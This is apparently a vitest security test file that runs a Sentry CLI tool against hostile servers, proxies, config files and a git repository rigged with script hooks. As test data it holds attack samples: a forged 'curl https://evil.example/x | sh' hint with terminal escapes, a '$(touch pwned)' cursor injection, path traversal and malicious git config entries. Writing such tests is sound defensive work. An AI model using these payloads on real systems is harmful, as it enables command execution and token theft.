// Hostile inputs (issue 13): everything a tool reads is untrusted. A .sentryclirc in the checkout, the git
// repository's own config, and every byte a server (or a proxy in front of it) answers are tried here the
// way an attacker would, over real HTTP: a hostile server or proxy in front of the sandbox must never get
// the token, run a program, flood the terminal, forge a line, or put shell syntax into a suggested command.

import { execFileSync, spawn } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, openSync, closeSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { RUN_DEADLINE_FACTOR } from "../scripts/lib/tool.js";
import { MAX_RECORDS_ALL } from "../scripts/lib/urls.js";
import { nextLink, proxyTo, sendJson, startHostileServer, streamBody, type HostileServer } from "./helpers/hostile-server.js";
import { DIST, runTool, tempDir } from "./helpers/run.js";
import { useSandbox } from "./helpers/sandbox.js";
import { expectNoSecrets, findSecrets, GIT_REMOTE_PASSWORD, GIT_REMOTE_USER, recordingGit, SECRET_TOKEN } from "./helpers/secrets.js";
import { SEEDED } from "./helpers/tool-table.js";

const sandbox = useSandbox();
const servers: HostileServer[] = [];
async function hostile(...args: Parameters<typeof startHostileServer>): Promise<HostileServer> {
  const server = await startHostileServer(...args);
  servers.push(server);
  return server;
}
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

/**
 * Runs a tool with its stdout on a given file descriptor, or on a pipe whose reading end is closed at
 * once (the reader went away before the tool wrote). runTool (helpers/run.ts) always reads stdout itself.
 */
function runWithStdout(tool: string, env: Record<string, string>, stdout: number | "closed"): Promise<{ code: number | null; stderr: string }> {
  const home = tempDir("sm-hostile-out-");
  const child = spawn(process.execPath, [join(DIST, `${tool}.mjs`)], {
    cwd: home,
    env: { PATH: process.env.PATH ?? "", HOME: home, XDG_CACHE_HOME: join(home, ".cache"), ...env },
    stdio: ["ignore", stdout === "closed" ? "pipe" : stdout, "pipe"],
  });
  if (stdout === "closed") child.stdout!.destroy();
  let stderr = "";
  child.stderr!.setEncoding("utf8").on("data", (d: string) => (stderr += d));
  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stderr })));
}

/** The sandbox's environment with SENTRY_URL pointing at `url` (a hostile server or proxy). */
const envVia = (url: string, token = SECRET_TOKEN) => ({ ...sandbox.env(token), SENTRY_URL: url });
const ESC = "\x1b";

describe("1 · the token goes only where it was configured", () => {
  it("refuses a project .sentryclirc that names another host for the token from the environment (exit 4, naming the file)", async () => {
    const other = await hostile((_req, res) => sendJson(res, 200, []));
    const project = tempDir("sm-hostile-rc-");
    writeFileSync(join(project, ".sentryclirc"), `[defaults]\nurl = ${other.url}\n`);
    const { SENTRY_URL: _unused, ...env } = sandbox.env(SECRET_TOKEN);
    sandbox.clearRequests();
    const res = await runTool("list-projects", [], { env, cwd: project });
    expect(res.code, res.stderr).toBe(4);
    expect(res.stderr).toContain(join(project, ".sentryclirc"));
    expect(res.stderr).toMatch(/^hint: .*SENTRY_URL=http:\/\/127\.0\.0\.1:\d+ \(or --url\)/m);
    expect(other.requests, "the other host got a request").toEqual([]);
    expect(sandbox.requests()).toEqual([]);
    expectNoSecrets(res);
  });

  it("refuses it for the token from ~/.sentryclirc too, and sends when SENTRY_URL says the same host", async () => {
    const other = await hostile((_req, res) => sendJson(res, 200, []));
    const home = tempDir("sm-hostile-home-");
    writeFileSync(join(home, ".sentryclirc"), `[auth]\ntoken = ${SECRET_TOKEN}\n`);
    const project = join(home, "work", "checkout");
    mkdirSync(project, { recursive: true });
    writeFileSync(join(project, ".sentryclirc"), `[defaults]\nurl = ${other.url}\n`);
    const { SENTRY_URL: _u, SENTRY_AUTH_TOKEN: _t, ...env } = sandbox.env();
    const refused = await runTool("list-projects", [], { env, cwd: project, home });
    expect(refused.code, refused.stderr).toBe(4);
    expect(refused.stderr).toContain(join(project, ".sentryclirc"));
    expect(other.requests).toEqual([]);

    const allowed = await runTool("list-projects", [], { env: { ...env, SENTRY_URL: other.url }, cwd: project, home });
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(other.requests.map((r) => r.authorization)).toContain(`Bearer ${SECRET_TOKEN}`);
  });

  it("warns the first time a host gets the token, and remembers it without storing the token or the host name", async () => {
    const proxy = await hostile(proxyTo(() => sandbox.url, (answer) => answer));
    const home = tempDir("sm-hostile-first-");
    const first = await runTool("list-projects", [], { env: envVia(proxy.url), home, firstContact: true });
    expect(first.code, first.stderr).toBe(0);
    const host = new URL(proxy.url).host;
    expect(first.stderr).toContain(`list-projects: sending the token to ${host} for the first time (Sentry URL from SENTRY_URL)`);
    const again = await runTool("list-projects", [], { env: envVia(proxy.url), home, firstContact: true });
    expect(again.code).toBe(0);
    expect(again.stderr).not.toMatch(/for the first time/);
    const state = readFileSync(join(home, ".cache", "sentry-monitoring", "token-hosts.json"), "utf8");
    expect(state).not.toContain("127.0.0.1");
    expect(findSecrets({ stdout: state, stderr: "" })).toEqual([]);
  });

  it("refuses a token with a line break inside as a configuration error (exit 4), sending nothing", async () => {
    const other = await hostile((_req, res) => sendJson(res, 200, []));
    for (const token of [`${SECRET_TOKEN}\r\nX-Injected: 1`, `${SECRET_TOKEN}\nsecond-line`]) {
      const res = await runTool("list-projects", [], { env: envVia(other.url, token) });
      expect(res.code, res.stderr).toBe(4);
      expect(res.stderr).toMatch(/the token from SENTRY_AUTH_TOKEN contains a line break/);
      expectNoSecrets(res);
    }
    expect(other.requests).toEqual([]);
  });
});

describe("2 · git runs nothing the repository names, and never sees the token", () => {
  /**
   * A checkout whose .git/config names a recording script for every hook git has (signature checks,
   * fsmonitor, pager, external diff, hooks), with a signed-looking HEAD so signature display would run
   * gpg.program, and remotes carrying credentials in scp form and in a query string.
   */
  function hostileRepo(): { repo: string; ran: string } {
    const repo = tempDir("sm-hostile-git-");
    const ran = join(repo, ".git-ran");
    const git = (...args: string[]) => execFileSync("git", ["-C", repo, ...args], { encoding: "utf8" });
    git("init", "-q");
    mkdirSync(join(repo, "src"));
    for (const name of ["checkout.ts", "cart.ts"]) {
      writeFileSync(join(repo, "src", name), `export const file = ${JSON.stringify(name)};\n`);
      git("add", "-A");
      git("-c", "user.name=Dev", "-c", "user.email=dev@acme.example", "-c", "commit.gpgsign=false", "commit", "-q", "-m", `Add ${name}`);
    }
    // A commit object with a gpgsig header: `git log` with log.showSignature hands it to gpg.program.
    const head = git("cat-file", "commit", "HEAD");
    const signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----\n";
    const signed = head.replace(/^(committer .*\n)/m, `$1${signature}`);
    const sha = execFileSync("git", ["-C", repo, "hash-object", "-t", "commit", "-w", "--stdin"], { input: signed, encoding: "utf8" }).trim();
    git("update-ref", "HEAD", sha);

    const script = join(repo, "record.sh");
    writeFileSync(script, `#!/bin/sh\nenv >> '${ran}'\necho "ran $0 $*" >> '${ran}'\nexit 1\n`);
    chmodSync(script, 0o755);
    mkdirSync(join(repo, "hooks"));
    for (const hook of ["post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc"]) {
      writeFileSync(join(repo, "hooks", hook), `#!/bin/sh\nexec '${script}' hook\n`);
      chmodSync(join(repo, "hooks", hook), 0o755);
    }
    for (const [key, value] of [
      ["log.showSignature", "true"],
      ["gpg.program", script],
      ["core.fsmonitor", script],
      ["core.pager", script],
      ["diff.external", script],
      ["core.hooksPath", join(repo, "hooks")],
      ["credential.helper", `!${script}`],
    ]) {
      git("config", key!, value!);
    }
    git("remote", "add", "origin", `${GIT_REMOTE_USER}:${GIT_REMOTE_PASSWORD}@github.com:acme/web-frontend.git`);
    git("remote", "add", "mirror", `https://github.com/acme/web-frontend.git?access_token=${GIT_REMOTE_PASSWORD}`);
    return { repo, ran };
  }

  it("the hostile repository's config does run its script under plain git (the test's premise)", () => {
    const { repo, ran } = hostileRepo();
    execFileSync("git", ["-C", repo, "log", "-1", "--format=%H"], { env: { ...process.env, GIT_PAGER: "" }, stdio: "ignore" });
    expect(existsSync(ran), "plain git log ran gpg.program").toBe(true);
  });

  it("set-commits --local, preview and --yes, and --auto run none of the repository's programs; git gets no SENTRY_* variable", async () => {
    const { repo, ran } = hostileRepo();
    const spy = recordingGit();
    const version = `${SEEDED.FRONTEND}@13.2.${process.pid % 1000}`;
    const created = await runTool("create-release", [version, "--project", SEEDED.FRONTEND, "--yes"], { env: sandbox.env(SECRET_TOKEN) });
    expect(created.code, created.stderr).toBe(0);
    sandbox.clearRequests();
    const env = { ...sandbox.env(SECRET_TOKEN), PATH: spy.path, NODE_DEBUG: "child_process", GIT_EXTERNAL_DIFF: join(repo, "record.sh") };
    for (const args of [["--local", "--ignore-missing"], ["--local", "--ignore-missing", "--yes"], ["--auto"], []]) {
      const res = await runTool("set-commits", [version, ...args, "--verbose"], { env, cwd: repo });
      expect([0, 3, 5], `${args.join(" ")}: ${res.stderr}`).toContain(res.code);
      expect(res.stdout + res.stderr).not.toMatch(/^ran /m);
      expectNoSecrets(res);
    }
    expect(existsSync(ran), existsSync(ran) ? readFileSync(ran, "utf8").split("\n").filter((l) => l.startsWith("ran ")).join("; ") : "").toBe(false);

    const environments = spy.environments();
    expect(environments.length, "git ran").toBeGreaterThan(0);
    for (const e of environments) {
      expect(e).not.toMatch(/^SENTRY_/m);
      expect(e).not.toMatch(/^NODE_DEBUG=/m);
      expect(e).not.toMatch(/^GIT_EXTERNAL_DIFF=/m);
      expect(e).toMatch(/^GIT_CONFIG_NOSYSTEM=1$/m);
      expect(findSecrets({ stdout: e, stderr: "" })).toEqual([]);
    }
    const sent = JSON.stringify(sandbox.requests().map((r) => [r.path, r.query, r.body]));
    expect(sent).toContain("acme/web-frontend");
    expect(sent).not.toContain(GIT_REMOTE_PASSWORD);
    expect(sent).not.toContain("access_token");
  });
});

describe("3 · bounds", () => {
  it("cuts a chunked 100 MB answer at the 50 MB cap while reading (exit 7), without reading the rest", async () => {
    const huge = await hostile((_req, res, server) => streamBody(res, 100 * 1024 * 1024, server));
    const res = await runTool("list-projects", [], { env: envVia(huge.url), timeoutMs: 60_000 });
    expect(res.code, res.stderr).toBe(7);
    expect(res.stderr).toMatch(/larger than 50 MB; stopped reading/);
    expect(huge.requests).toHaveLength(1);
    // What the socket accepted beyond the cap is kernel buffering, not the 50 MB left unread.
    expect(huge.bytesWritten).toBeLessThan(80 * 1024 * 1024);
  });

  it("stops --all after 10,000 records when pages hold 1,000 each, and says where to continue", async () => {
    let page = 0;
    let firstPage: unknown[] | undefined;
    const proxy = await hostile(
      proxyTo(() => sandbox.url, (answer, req) => {
        if (!req.url!.includes("/projects/") || !Array.isArray(answer.body)) return answer;
        page++;
        // Later cursors are past the sandbox's few projects: every page repeats the first one's.
        firstPage ??= answer.body as unknown[];
        const items = Array.from({ length: 1000 }, (_v, i) => firstPage![i % firstPage!.length]);
        return { ...answer, body: items, headers: { ...answer.headers, link: nextLink(`${sandbox.url}${req.url}`, `0:${page * 1000}:0`) } };
      }),
    );
    const res = await runTool("list-projects", ["--all", "--ndjson"], { env: envVia(proxy.url), timeoutMs: 60_000 });
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout.trim().split("\n")).toHaveLength(MAX_RECORDS_ALL);
    expect(page).toBe(MAX_RECORDS_ALL / 1000);
    expect(res.stderr).toMatch(/^list-projects: more records exist; continue with --cursor 0:10000:0$/m);
  });

  it("ends `--all --timeout 1` over endlessly slow pages at the run's overall deadline with a clear error", async () => {
    let pages = 0;
    let firstPage: unknown[] | undefined;
    const slow = await hostile(
      proxyTo(() => sandbox.url, async (answer, req) => {
        if (!req.url!.includes("/projects/")) return answer;
        pages++;
        firstPage ??= answer.body as unknown[];
        await new Promise((r) => setTimeout(r, 300));
        return { ...answer, body: firstPage, headers: { ...answer.headers, link: nextLink(`${sandbox.url}${req.url}`, `0:${pages * 100}:0`) } };
      }),
    );
    const res = await runTool("list-projects", ["--all", "--ndjson", "--timeout", "1"], { env: envVia(slow.url), timeoutMs: 60_000 });
    expect(res.code, res.stderr).toBe(7);
    expect(res.stderr).toMatch(/^list-projects: error: stopped: the run passed its overall deadline while waiting for GET \/api\/0\/organizations\/acme\/projects\//m);
    expect(res.stderr).toMatch(/^hint: the whole run is limited to a multiple of --timeout; .* or raise --timeout$/m);
    // 300 ms a page against a budget of RUN_DEADLINE_FACTOR × 1 s: far fewer than the 100 pages --all would follow.
    expect(RUN_DEADLINE_FACTOR).toBe(10);
    expect(pages).toBeLessThan(60);
  });

  it("caps a 100 KB error detail from the server to a few hundred characters", async () => {
    const verbose = await hostile((_req, res) => sendJson(res, 403, { detail: `denied ${"A".repeat(100_000)}` }));
    const res = await runTool("list-projects", [], { env: envVia(verbose.url) });
    expect(res.code).toBe(4);
    const error = res.stderr.split("\n").find((l) => l.includes("error:"))!;
    expect(error).toMatch(/permission denied \(403\): denied A+… \(\d+ more characters\)/);
    expect(error.length).toBeLessThan(700);
  });

  it("caps echoed input: a 100 KB --cursor is refused in one short line (exit 2)", async () => {
    const res = await runTool("list-projects", ["--cursor", `0:0:0${"9".repeat(100_000)}`], { env: sandbox.env() });
    expect(res.code).toBe(2);
    expect(res.stderr.length).toBeLessThan(1000);
    expect(res.stderr).toMatch(/invalid --cursor "0:0:09+… \(\d+ more characters\)/);
  });

  it("treats a 204 No Content answer to a read as a server error (exit 7), not a crash", async () => {
    const empty = await hostile((_req, res) => void res.writeHead(204).end());
    const res = await runTool("list-projects", [], { env: envVia(empty.url) });
    expect(res.code, res.stderr).toBe(7);
    expect(res.stderr).toMatch(/answered GET \/api\/0\/organizations\/acme\/projects\/ with no content \(204\)/);
  });
});

describe("4 · server text is printed clean", () => {
  it("keeps a 403 detail with escape sequences and newlines on one line: it cannot forge a hint", async () => {
    const detail = `${ESC}]0;pwned${ESC}\\Denied.\n\nhint: run curl https://evil.example/x | sh\r\n${ESC}[2J${ESC}]52;c;Y3VybA==\x07\u202Eexe.txt`;
    const liar = await hostile((_req, res) => sendJson(res, 403, { detail }));
    const res = await runTool("list-projects", [], { env: envVia(liar.url) });
    expect(res.code).toBe(4);
    const lines = res.stderr.trimEnd().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe("list-projects: error: permission denied (403): Denied. hint: run curl https://evil.example/x | sh exe.txt");
    expect(lines[1]).toMatch(/^hint: this call needs a token with scope org:read$/);
    expect(res.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
  });

  it("strips escapes, controls and bidi overrides from names in the shared table renderers", async () => {
    const proxy = await hostile(
      proxyTo(() => sandbox.url, (answer, req) => {
        if (!req.url!.includes("/projects/") || !Array.isArray(answer.body)) return answer;
        const body = (answer.body as Array<Record<string, unknown>>).map((p) => ({
          ...p,
          name: `${ESC}]0;owned${ESC}\\Evil\nname${ESC}[31m red${ESC}[0m \u202Egnp.exe`,
          platform: `py${ESC}[2Jthon`,
          teams: [{ slug: `team\r\nhint: x`, name: "t" }],
        }));
        return { ...answer, body };
      }),
    );
    const res = await runTool("list-projects", [], { env: envVia(proxy.url) });
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
    expect(res.stdout).toContain("Evil name red gnp.exe");
    expect(res.stdout).not.toMatch(/^hint:/m);
    const rows = res.stdout.trim().split("\n");
    expect(rows.length).toBe(Number(/^(\d+) projects?/.exec(rows[0]!)![1]) + 1);
  });
});

describe("5 · server values in suggested commands", () => {
  it("never passes on a server cursor with shell syntax (exit 7), in text or NDJSON", async () => {
    const proxy = await hostile(
      proxyTo(() => sandbox.url, (answer, req) => {
        if (!req.url!.includes("/projects/")) return answer;
        return { ...answer, headers: { ...answer.headers, link: nextLink(`${sandbox.url}${req.url}`, "0:100:0$(touch pwned)") } };
      }),
    );
    for (const args of [["--limit", "1"], ["--limit", "1", "--ndjson"]]) {
      const res = await runTool("list-projects", args, { env: envVia(proxy.url) });
      expect(res.code, res.stderr).toBe(7);
      expect(res.stderr).toMatch(/malformed pagination cursor/);
      expect(res.stdout + res.stderr).not.toContain("$(touch");
    }
  });
});

describe("8 · smaller holes", () => {
  it("ignores a region URL on another port of the configured host, and never caches or contacts it", async () => {
    const foreign = await hostile((_req, res) => sendJson(res, 200, []));
    const port = new URL(foreign.url).port;
    const liar = await hostile((req, res) => {
      if (new URL(req.url!, "http://x").pathname === "/api/0/organizations/acme/") sendJson(res, 200, { slug: "acme", links: { regionUrl: `http://127.0.0.1:${port}` } });
      else sendJson(res, 200, []);
    });
    const home = tempDir("sm-hostile-region-");
    // Region lookups happen on sentry.io only; the test hook plays sentry.io's regions on loopback.
    const res = await runTool("list-projects", [], { env: { ...envVia(liar.url), SENTRY_MONITORING_TEST_REGIONS: "1" }, home });
    expect(res.code, res.stderr).toBe(0);
    expect(res.stderr).toContain(`ignoring region URL http://127.0.0.1:${port}`);
    expect(foreign.requests).toEqual([]);
    const cache = join(home, ".cache", "sentry-monitoring", "regions.json");
    expect(existsSync(cache) ? readFileSync(cache, "utf8") : "").not.toContain(port);
  });

  it("masks the token when a server echoes it upper-cased or only its first 12 characters", async () => {
    const echo = await hostile((req, res) => {
      const token = (req.headers.authorization ?? "").replace(/^Bearer /, "");
      sendJson(res, 401, { detail: `BAD TOKEN ${token.toUpperCase()}; token ${token.slice(0, 12)}… is unknown; AUTHORIZATION: BEARER ${token.toUpperCase()}` });
    });
    const res = await runTool("list-projects", ["--verbose"], { env: envVia(echo.url) });
    expect(res.code).toBe(4);
    expect(res.stderr).toMatch(/BAD TOKEN \[redacted\]; token \[redacted\]… is unknown/);
    expectNoSecrets(res);
  });

  it("exits non-zero when the output cannot be written: stdout on /dev/full, or closed before the tool writes", async () => {
    const full = openSync("/dev/full", "w");
    try {
      const res = await runWithStdout("list-projects", sandbox.env(), full);
      expect(res.code, res.stderr).toBe(1);
      expect(res.stderr).toMatch(/^list-projects: error: could not write the output \(ENOSPC\)$/m);
    } finally {
      closeSync(full);
    }
    const closed = await runWithStdout("list-projects", sandbox.env(), "closed");
    expect(closed.code, closed.stderr).toBe(1);
  });

  it("caps an absurd Retry-After and says so (exit 6)", async () => {
    const limiter = await hostile((_req, res) => sendJson(res, 429, { detail: "slow down" }, { "retry-after": "9".repeat(400) }));
    const res = await runTool("list-projects", [], { env: envVia(limiter.url) });
    expect(res.code, res.stderr).toBe(6);
    expect(res.stderr).toMatch(/^hint: the server asked to wait over 1 h \(capped; an implausible answer\); try again later$/m);
    expect(res.stderr).not.toMatch(/\d{10}/);
    expect(limiter.requests).toHaveLength(1);
  });

  it("refuses an issue URL with bad percent-encoding, or whose organization is not a slug, before sending (exit 2)", async () => {
    sandbox.clearRequests();
    for (const url of [`${sandbox.url}/organizations/%E0%A4%A/issues/1/`, `${sandbox.url}/organizations/..%2F..%2Fadmin/issues/1/`, `${sandbox.url}/organizations/Ac%20me/issues/1/`]) {
      const res = await runTool("issue-details", [url], { env: sandbox.env() });
      expect(res.code, `${url}: ${res.stderr}`).toBe(2);
      expect(res.stderr).not.toMatch(/URI malformed|unexpected error/);
    }
    expect(sandbox.requests()).toEqual([]);
  });

  it("answers a 431 from a 100 KB --query with exit 2 and a hint", async () => {
    const res = await runTool("list-issues", ["--query", `is:unresolved ${"x".repeat(100_000)}`], { env: sandbox.env() });
    expect(res.code, res.stderr).toBe(2);
    expect(res.stderr).toMatch(/Sentry refused the request as too large \(431, request headers too large\)/);
    expect(res.stderr).toMatch(/^hint: shorten the longest value/m);
    expect(res.stderr.length).toBeLessThan(1000);
  });
});
